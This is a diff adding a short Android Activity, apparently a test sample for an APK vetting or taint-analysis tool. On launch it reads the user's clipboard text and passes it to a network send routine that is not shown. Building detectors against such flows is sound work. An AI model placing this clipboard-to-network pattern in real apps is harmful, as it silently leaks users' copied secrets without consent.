@@ -1,0 +1,17 @@
+package org.apkvet.clip.to_http_body;
+
+import android.app.*;
+import android.content.*;
+import android.os.*;
+
+public class Main extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        Net.send(copied());
+    }
+
+    private String copied() {
+        return ((ClipboardManager) getSystemService("clipboard")).getPrimaryClip().getItemAt(0).getText().toString();
+    }
+}
